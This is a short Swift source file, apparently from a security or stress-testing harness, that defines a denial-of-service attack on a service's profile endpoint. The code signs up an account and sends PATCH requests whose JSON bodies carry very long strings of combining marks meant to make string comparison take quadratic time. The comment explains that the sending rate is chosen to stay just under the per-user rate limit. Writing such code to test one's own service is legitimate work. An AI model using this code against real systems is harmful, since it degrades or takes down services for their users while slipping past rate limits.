import NIOCore

/// Attack 1: strings that take quadratic time to compare, in the bodies of a user's requests.
struct QuadraticBodies: Attack {
    let name = "1, quadratic bodies"
    let serviceOptions = ["--accounts", "--profiles"]

    /// The sizes in bytes. The service reads bodies of all three.
    private static let sizes = [1_360_000, 80_000, 15_000]

    func start(by attacker: Attacker) async throws {
        let token = try await attacker.client.signUp("quadratic").get()
        let requests = Self.sizes.map { size in
            ByteBuffer.request(
                "PATCH", "/v1/me/profile", fields: ["Authorization": "Bearer \(token)"],
                json: "{\"chosen\":[{\"collection\":\"a\(String.combiningMarks(bytes: size))\",\"number\":1}]}")
        }
        // 200 requests in 6 s stay below a user's rate limit of 300 a minute.
        attacker.send(requests, every: .milliseconds(30), closing: .whenSent)
    }
}
